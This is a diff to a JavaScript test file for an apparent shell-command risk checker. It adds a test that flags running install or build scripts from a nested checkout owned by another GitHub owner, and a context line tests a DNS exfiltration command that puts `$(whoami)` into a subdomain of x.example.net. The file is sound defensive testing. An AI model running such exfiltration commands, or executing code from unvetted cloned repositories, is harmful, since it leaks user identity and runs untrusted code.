@@ -149,3 +149,22 @@ test('a DNS name built at run time under a fixed domain is exfiltration; a run-t
     assert.ok(checks(`${tool} "$(whoami).x.example.net"`).includes('effects.dns'), tool);
   assert.ok(!checks('ping -c1 "$HOST"').includes('effects.dns'));
 });
+
+test('a file run inside a nested checkout of another owner asks, whichever earlier call cloned it; the own owner and reading pass', () => {
+  for (const [dir, url] of [
+    ['vendor/fs', 'https://github.com/qx-devtools/fastsetup'],
+    ['vendor/own', 'https://github.com/acme/own'],
+  ]) {
+    mkdirSync(join(workspace, dir, '.git'), { recursive: true });
+    writeFileSync(join(workspace, dir, '.git', 'config'), `[remote "origin"]\n\turl = ${url}\n`);
+  }
+  for (const cmd of [
+    'bash vendor/fs/install.sh',
+    'make -C vendor/fs',
+    'cd vendor/fs && ./configure',
+    'node vendor/fs/lib/x.js',
+  ])
+    assert.ok(checks(cmd).includes('sources.clone-run'), cmd);
+  for (const cmd of ['bash vendor/own/install.sh', 'cat vendor/fs/README.md', 'bash scripts/x.sh'])
+    assert.ok(!checks(cmd).includes('sources.clone-run'), cmd);
+});
